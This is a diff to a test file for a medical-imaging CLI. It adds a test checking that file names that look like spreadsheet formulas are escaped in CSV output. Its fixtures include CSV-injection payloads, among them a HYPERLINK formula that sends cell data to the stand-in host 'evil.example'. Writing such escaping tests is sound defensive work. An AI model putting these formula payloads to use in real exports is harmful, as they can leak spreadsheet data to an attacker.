@@ -7,6 +7,7 @@ import { fileURLToPath } from 'node:url'
 import { promisify } from 'node:util'
 import t, { type Test } from 'tap'
 import { build, ctKidneyFiles, SHARED } from './helper.js'
+import { formatResults } from '../cli/output.js'
 
 const BIN = fileURLToPath(new URL('../bin/kidney-stone.js', import.meta.url))
 const DICOM_DIR = join(SHARED, 'data/dicom')
@@ -85,6 +86,17 @@ t.test('CSV to --out, exit code 0 when every file succeeded', async (t) => {
   const [x, y, width, height, score] = cells.slice(14, 19).map(Number)
   t.ok(x >= 0 && y >= 0 && width > 0 && height > 0 && x + width <= 384 && y + height <= 384 && score > 0 && score <= 1,
     `the top finding's box lies in the 384x384 slice (${cells.slice(14, 19).join(' ')})`)
+})
+
+t.test('CSV: a file name a spreadsheet would run as a formula is written as text', async (t) => {
+  // The CLI (given `.`) and the web page's export (a picked file's own name) write bare file names into the file column.
+  const names = ['=HYPERLINK("http://evil.example/?"&A1,"open").jpg', '+1+cmd.jpg', '-2+3.png', '@SUM(1).dcm', '\t=1.jpg', 'slice-=1.jpg']
+  const csv = formatResults(names.map((file) => ({ file, error: { code: 'CORRUPT_IMAGE', message: '=not a formula either' } })), 'csv')
+  const rows = csv.trimEnd().split('\n').slice(1)
+  t.same(rows.map((row) => row.split(',CORRUPT_IMAGE,')[0].replace(/,+$/, '').replace(/^"|"$/g, '').replace(/""/g, '"')), [
+    '\'=HYPERLINK("http://evil.example/?"&A1,"open").jpg', '\'+1+cmd.jpg', '\'-2+3.png', '\'@SUM(1).dcm', '\'\t=1.jpg', 'slice-=1.jpg'
+  ], 'an apostrophe before the formula characters, none elsewhere')
+  t.ok(rows.every((row) => row.includes(",CORRUPT_IMAGE,'=not a formula either,")), 'every text cell, the message too')
 })
 
 t.test('an unknown --format is a usage error', async (t) => {
